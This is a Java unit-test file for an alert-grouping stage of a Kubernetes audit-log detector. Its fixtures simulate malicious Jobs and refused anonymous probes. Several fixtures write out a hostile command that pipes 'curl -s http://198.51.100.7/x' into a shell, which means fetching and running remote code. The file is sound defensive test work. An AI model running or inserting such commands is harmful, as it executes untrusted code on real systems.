package dev.cronsentinel.alert;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.GroupingConfig;
import dev.cronsentinel.context.ContextSignals;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.testing.AuditEvents;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;

/** Alert grouping in a harness: one id and a growing count per finding and period, bounded emissions, exits. */
class AlertGroupingFunctionTest {
    static final Instant T0 = Instant.parse("2026-11-20T09:05:00Z"); // 09:00 is the period start
    static final GroupingConfig HOURLY = new GroupingConfig(Duration.ofHours(1), Duration.ofHours(1));

    private static KeyedOneInputStreamOperatorTestHarness<String, Alert, Alert> harness() throws Exception {
        var h = new KeyedOneInputStreamOperatorTestHarness<String, Alert, Alert>(
                new KeyedProcessOperator<>(new AlertGroupingFunction(HOURLY)), new AlertGroupingFunction.GroupKey(), Types.STRING);
        h.open();
        return h;
    }

    /** The same malicious Job, created again and again under generated names (as a loop with generateName does). */
    static Alert repeat(int i, Instant at) {
        ScoredEvent s = AuditEvents.job("payments", "sync-" + Integer.toString(i * 7919, 36)).id(String.format("rep-%04d", i)).at(at)
                .by("mallory@example.com").agent("curl/8.5.0").from("198.51.100.23")
                .command("/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh").scored();
        assertThat(s.alertable()).isTrue();
        return AlertFactory.fromScored(s, "default");
    }

    private static void feed(KeyedOneInputStreamOperatorTestHarness<String, Alert, Alert> h, Alert a) throws Exception {
        h.processElement(new StreamRecord<>(a, a.eventTime()));
    }

    /** What an idempotent sink holds after the emissions: the last document per alert id. */
    static Map<String, Alert> lastById(List<Alert> emitted) {
        Map<String, Alert> out = new LinkedHashMap<>();
        for (Alert a : emitted) {
            out.put(a.alertId(), a);
        }
        return out;
    }

    /** An anonymous create refused with 403, in a namespace and under a name the outsider made up. */
    static Alert probe(int i, String ip, Instant at) {
        ScoredEvent s = AuditEvents.cronJob("made-up-" + Integer.toString(i * 104729, 36), "x" + i)
                .id(String.format("probe-%04d", i)).at(at).code(403)
                .by("system:anonymous", "system:unauthenticated").agent("python-requests/2.31.0").from(ip).scored();
        assertThat(s.alertable()).as("a refused batch create alerts").isTrue();
        return AlertFactory.fromScored(s, "default");
    }

    /**
     * Issue 16 row 13: bodiless refused attempts group per actor and source network, whatever namespace and name
     * they named, so an outsider cannot flood the alert index: 40 probes from one /24 are one alert (count 40,
     * log2 writes), another /24 is another alert, and the ids come from the data alone.
     */
    @Test
    void refusedProbesInMadeUpNamespacesAreOneAlertPerActorAndSourceNetwork() throws Exception {
        var h = harness();
        List<Alert> in = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            in.add(probe(i, "203.0.113." + (10 + i), T0.plusSeconds(i * 30L)));
        }
        in.add(probe(99, "198.51.100.9", T0.plusSeconds(5)));
        assertThat(in).extracting(Alert::namespace).doesNotHaveDuplicates();
        for (Alert a : in) {
            feed(h, a);
        }
        h.processWatermark(T0.plus(Duration.ofHours(1)).toEpochMilli());

        List<Alert> emitted = h.extractOutputValues();
        Map<String, Alert> sink = lastById(emitted);
        assertThat(sink.values()).extracting(Alert::count).containsExactlyInAnyOrder(40L, 1L);
        assertThat(emitted.size()).as("writes bounded by log2(count) + 2 per group").isLessThanOrEqualTo(1 + 6 + 2 + 1);
        Alert burst = sink.values().stream().filter(a -> a.count() == 40).findFirst().orElseThrow();
        assertThat(burst.auditId()).isEqualTo("probe-0000");
        assertThat(burst.alertId()).isEqualTo(AlertGroupingFunction.groupIdOf(in.get(0), HOURLY.period()))
                .isEqualTo(AlertGroupingFunction.groupIdOf(in.get(39), HOURLY.period()));

        // A probe with a spec to judge is not a probe: it keeps its own evidence-based group.
        assertThat(AlertFingerprint.isProbe(repeat(1, T0))).isFalse();
    }

    @Test
    void fiftyIdenticalFindingsInTenMinutesAreOneAlertWithCountFifty() throws Exception {
        var h = harness();
        List<Alert> in = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            in.add(repeat(i, T0.plusSeconds(i * 12L)));
        }
        for (Alert a : in) {
            feed(h, a);
        }
        h.processWatermark(T0.plus(Duration.ofHours(1)).toEpochMilli());

        List<Alert> emitted = h.extractOutputValues();
        Map<String, Alert> sink = lastById(emitted);
        assertThat(sink).hasSize(1);
        Alert alert = sink.values().iterator().next();
        assertThat(alert.count()).isEqualTo(50);
        assertThat(alert.firstSeen()).isEqualTo(T0.toEpochMilli());
        assertThat(alert.lastSeen()).isEqualTo(T0.plusSeconds(49 * 12L).toEpochMilli());
        assertThat(alert.auditId()).as("the document is the first finding's").isEqualTo("rep-0000");
        assertThat(alert.alertId()).startsWith("cs-workload-").isNotEqualTo(in.get(0).alertId());
        // First at once, then at 2, 4, 8, 16, 32, and the final 50 when the period closes.
        assertThat(emitted).extracting(Alert::count).containsExactly(1L, 2L, 4L, 8L, 16L, 32L, 50L);
        // The group waits out the allowed lateness, then leaves.
        assertThat(h.numKeyedStateEntries()).isEqualTo(1);
        h.processWatermark(T0.plus(Duration.ofHours(2)).toEpochMilli());
        assertThat(h.extractOutputValues()).hasSize(7);
        assertThat(h.numKeyedStateEntries()).isZero();
        assertThat(h.numEventTimeTimers()).isZero();
        h.close();
    }

    @Test
    void theIdAndTheFinalDocumentDoNotDependOnArrivalOrder() throws Exception {
        List<Alert> in = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            in.add(repeat(i, T0.plusSeconds(i * 30L)));
        }
        Alert reference = null;
        Random r = new Random(11);
        for (int round = 0; round < 5; round++) {
            List<Alert> shuffled = new ArrayList<>(in);
            Collections.shuffle(shuffled, r);
            var h = harness();
            for (Alert a : shuffled) {
                feed(h, a);
            }
            h.processWatermark(Long.MAX_VALUE - 1);
            Alert last = lastById(h.extractOutputValues()).values().stream().reduce((a, b) -> b).orElseThrow();
            assertThat(lastById(h.extractOutputValues())).hasSize(1);
            if (reference == null) {
                reference = last;
            }
            assertThat(last).isEqualTo(reference);
            h.close();
        }
        assertThat(reference.count()).isEqualTo(20);
        assertThat(reference.auditId()).isEqualTo("rep-0000");
    }

    @Test
    void differentEvidenceOrAnotherActorIsAnotherFinding() throws Exception {
        var h = harness();
        feed(h, repeat(0, T0));
        ScoredEvent other = AuditEvents.job("payments", "sync-x").id("other").at(T0.plusSeconds(5)).by("mallory@example.com")
                .command("/bin/sh", "-c", "curl -s http://198.51.100.99/y | sh").scored();
        feed(h, AlertFactory.fromScored(other, "default"));
        ScoredEvent otherActor = AuditEvents.job("payments", "sync-y").id("actor").at(T0.plusSeconds(6)).by("eve@example.com")
                .command("/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh").scored();
        feed(h, AlertFactory.fromScored(otherActor, "default"));
        assertThat(lastById(h.extractOutputValues())).hasSize(3).allSatisfy((id, a) -> assertThat(a.count()).isEqualTo(1));
        h.close();
    }

    @Test
    void contextSignalsDoNotSplitABurst() throws Exception {
        Alert first = repeat(0, T0);
        List<Signal> withNovelty = new ArrayList<>(first.signals());
        withNovelty.add(new Signal(ContextSignals.UNUSUAL_CLIENT, ContextSignals.RULE_SCRIPTED_CLIENT, 30, "userAgent", "curl/8.5.0 (...)"));
        Alert novel = AlertGroupingFunction.regroup(first, first.alertId(), 1, first.firstSeen(), first.lastSeen());
        novel = new Alert(novel.alertId(), novel.kind(), novel.profile(), novel.ruleVersion(), novel.eventTime(), novel.timestamp(),
                novel.auditId(), novel.username(), novel.groups(), novel.userAgent(), novel.sourceIp(), novel.namespace(), novel.resource(),
                novel.name(), novel.verb(), novel.responseCode(), withNovelty, novel.score() + 30, novel.severity(), novel.techniqueId(),
                novel.tactics(), novel.images(), 1, novel.firstSeen(), novel.lastSeen(), novel.chain(), novel.timeToFirstSpawnMillis(), novel.compat());
        assertThat(AlertFingerprint.of(novel)).isEqualTo(AlertFingerprint.of(repeat(1, T0.plusSeconds(1))));
    }

    @Test
    void aBurstAcrossAPeriodBoundaryBecomesTwoAlertsThatTogetherCountEveryFinding() throws Exception {
        var h = harness();
        Instant start = Instant.parse("2026-11-20T09:55:00Z");
        for (int i = 0; i < 50; i++) {
            feed(h, repeat(i, start.plusSeconds(i * 12L)));
        }
        h.processWatermark(Long.MAX_VALUE - 1);
        Map<String, Alert> sink = lastById(h.extractOutputValues());
        assertThat(sink).hasSize(2);
        assertThat(sink.values()).extracting(Alert::count).containsExactlyInAnyOrder(25L, 25L);
        h.close();
    }

    @Test
    void aLateRepeatWithinTheAllowedLatenessStillCountsAndEndsLikeAnOnTimeOne() throws Exception {
        var onTime = harness();
        var lateRun = harness();
        for (int i = 0; i < 3; i++) {
            feed(onTime, repeat(i, T0.plusSeconds(i)));
            feed(lateRun, repeat(i, T0.plusSeconds(i)));
        }
        feed(onTime, repeat(3, T0.plusSeconds(30)));
        onTime.processWatermark(Long.MAX_VALUE - 1);
        // The other run meets the same repeat 30 minutes after its period closed.
        lateRun.processWatermark(T0.plus(Duration.ofMinutes(85)).toEpochMilli());
        feed(lateRun, repeat(3, T0.plusSeconds(30)));
        lateRun.processWatermark(Long.MAX_VALUE - 1);
        Map<String, Alert> a = lastById(onTime.extractOutputValues());
        Map<String, Alert> b = lastById(lateRun.extractOutputValues());
        assertThat(b).isEqualTo(a).hasSize(1);
        assertThat(b.values().iterator().next().count()).isEqualTo(4);
        assertThat(lateRun.numKeyedStateEntries()).isZero();
        onTime.close();
        lateRun.close();
    }

    @Test
    void aFindingLaterThanTheAllowedLatenessStandsAloneAndCannotOverwriteTheGroup() throws Exception {
        var h = harness();
        for (int i = 0; i < 3; i++) {
            feed(h, repeat(i, T0.plusSeconds(i)));
        }
        h.processWatermark(T0.plus(Duration.ofHours(2)).toEpochMilli());
        Alert late = repeat(99, T0.plusSeconds(30));
        feed(h, late);
        List<Alert> emitted = h.extractOutputValues();
        assertThat(emitted.get(emitted.size() - 1)).isEqualTo(late);
        Map<String, Alert> sink = lastById(emitted);
        assertThat(sink).hasSize(2);
        assertThat(sink.get(late.alertId()).count()).isEqualTo(1);
        assertThat(sink.values()).extracting(Alert::count).containsExactlyInAnyOrder(3L, 1L);
        assertThat(h.numKeyedStateEntries()).isZero();
        h.close();
    }

    @Test
    void snapshotAndRestoreKeepAnOpenGroup() throws Exception {
        var h = harness();
        for (int i = 0; i < 5; i++) {
            feed(h, repeat(i, T0.plusSeconds(i)));
        }
        String id = h.extractOutputValues().get(0).alertId();
        OperatorSubtaskState snapshot = h.snapshot(1L, T0.toEpochMilli());
        h.close();

        var restored = new KeyedOneInputStreamOperatorTestHarness<String, Alert, Alert>(
                new KeyedProcessOperator<>(new AlertGroupingFunction(HOURLY)), new AlertGroupingFunction.GroupKey(), Types.STRING);
        restored.initializeState(snapshot);
        restored.open();
        assertThat(restored.numEventTimeTimers()).as("the period's close and the end of its lateness").isEqualTo(2);
        for (int i = 5; i < 8; i++) {
            feed(restored, repeat(i, T0.plusSeconds(i)));
        }
        restored.processWatermark(T0.plus(Duration.ofHours(2)).toEpochMilli());
        Map<String, Alert> sink = lastById(restored.extractOutputValues());
        assertThat(sink).containsOnlyKeys(id);
        assertThat(sink.get(id).count()).isEqualTo(8);
        assertThat(restored.numKeyedStateEntries()).isZero();
        restored.close();
    }
}
